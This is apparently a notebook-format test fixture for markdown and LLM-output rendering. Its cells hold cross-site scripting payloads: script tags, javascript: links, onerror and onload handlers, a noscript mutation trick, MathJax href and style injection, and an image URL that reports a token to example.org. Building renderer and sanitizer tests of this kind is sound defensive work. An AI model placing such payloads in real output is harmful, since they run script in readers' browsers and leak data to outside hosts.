# %% [markdown]
# Writes an answer in Markdown with scripts, links that run, pictures that report who looks, and mutated HTML.

# %% [markdown] words
# <script>alert("@TOKEN@")</script> [x](javascript:alert('@TOKEN@')) ![x](https://example.org/@TOKEN@.png)
# <img src=x onerror=alert('@TOKEN@')> <svg/onload=alert('@TOKEN@')> <a href="vbscript:@TOKEN@">y</a>
# <style>@import "//@TOKEN@"</style> <details open ontoggle="alert('@TOKEN@')">z</details>
# <noscript><p title="</noscript><img src=x onerror=alert('@TOKEN@')>"> $\href{javascript:alert('@TOKEN@')}{x}$
# `<script>'@TOKEN@'</script>` &lt;script&gt; [ref]: javascript:'@TOKEN@' "t"
#
# $$\require{html}\style{background:url(//@TOKEN@)}{x} \unicode{60} \text{<img src=x onerror="'@TOKEN@'">}$$
